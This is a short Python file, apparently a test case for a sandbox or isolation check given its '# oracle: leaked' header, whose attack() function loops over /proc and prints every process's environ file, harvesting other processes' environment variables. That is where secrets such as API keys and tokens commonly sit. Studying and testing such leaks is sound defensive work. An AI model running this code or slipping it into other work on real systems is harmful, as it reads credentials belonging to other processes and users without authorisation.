# oracle: leaked
import os


def attack():
    for number in os.listdir("/proc"):
        if number.isdigit():
            try:
                print(open(f"/proc/{number}/environ").read())
            except OSError:
                pass
